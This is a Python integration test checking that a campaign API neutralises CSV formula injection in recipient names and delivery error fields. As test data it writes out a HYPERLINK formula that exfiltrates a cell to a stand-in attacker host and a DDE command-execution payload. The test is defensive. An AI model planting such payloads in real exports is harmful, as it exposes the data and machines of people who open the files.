"""The CSV report as a tenant downloads it, with deliveries that reached the
campaign-api as events: a contact's name or an error that a spreadsheet would run
as a formula arrives neutralised (a leading `'`)."""

from __future__ import annotations

import csv
import io
from uuid import UUID

import pytest
from contracts.audience import Recipient, RecipientsResolvedV1
from contracts.base import utc_now
from contracts.dispatch import DeliveriesReportedV1, DeliveryResult
from contracts.names import INTERNAL_EXCHANGE, RoutingKey
from pydantic import BaseModel
from test_support.waiting import eventually

from .conftest import Api, Tenant

pytestmark = pytest.mark.integration

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def publish(api: Api, message: BaseModel, routing_key: str) -> None:
    publisher = api.app.state.runtime.publisher
    await publisher.publish(message, exchange=INTERNAL_EXCHANGE, routing_key=routing_key)


async def test_a_formula_in_a_name_or_an_error_is_neutralised(api: Api, tenant: Tenant) -> None:
    created = await api.call(
        tenant.admin,
        "POST",
        "/v1/campaigns",
        json={
            "connection_id": "tg-main",
            "audience": {"kind": "list", "external_ids": ["+4915123456789", "7"]},
            "content": {"kind": "text", "text": "Hi {name}"},
            "start_at": "2098-01-01 00:00:00",
        },
        expect=201,
    )
    campaign = UUID(created.json()["campaign_id"])
    people = [
        Recipient(
            recipient_no=1,
            contact_id="tg-main:+4915123456789",
            external_id="+4915123456789",
            name=HYPERLINK,
        ),
        Recipient(recipient_no=2, contact_id="tg-main:7", external_id="7", name="Bob"),
    ]
    recipients = RecipientsResolvedV1(
        campaign_id=campaign, tenant_id=tenant.id, batch_no=1, recipients=people
    )
    await publish(api, recipients, RoutingKey.RECIPIENTS_RESOLVED)
    failed = DeliveryResult(
        campaign_id=campaign,
        recipient_no=2,
        step_no=1,
        status="failed",
        error_code="-1",
        error_reason="@SUM(1+1)*cmd|' /C calc'!A0",
        finished_at=utc_now(),
    )
    reported = DeliveriesReportedV1(tenant_id=tenant.id, connection_id="tg-main", results=[failed])

    async def report() -> list[dict[str, str]] | None:
        answered = await api.call(
            tenant.admin, "GET", f"/v1/campaigns/{campaign}/report.csv", expect=200
        )
        rows = list(csv.DictReader(io.StringIO(answered.text, newline="")))
        return rows if len(rows) == 2 else None

    await eventually(report, what="both recipients in the report")
    await publish(api, reported, RoutingKey.DELIVERY_REPORTED)

    async def failure_reported() -> list[dict[str, str]] | None:
        rows = await report()
        return rows if rows and rows[1]["status"] == "failed" else None

    first, second = await eventually(failure_reported, what="the failure in the report")
    assert first["name"] == "'" + HYPERLINK
    assert first["recipient"] == "'+4915123456789"
    assert first["contact_id"] == "tg-main:+4915123456789"
    assert second["name"] == "Bob"
    assert second["error_code"] == "'-1"
    assert second["error_reason"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
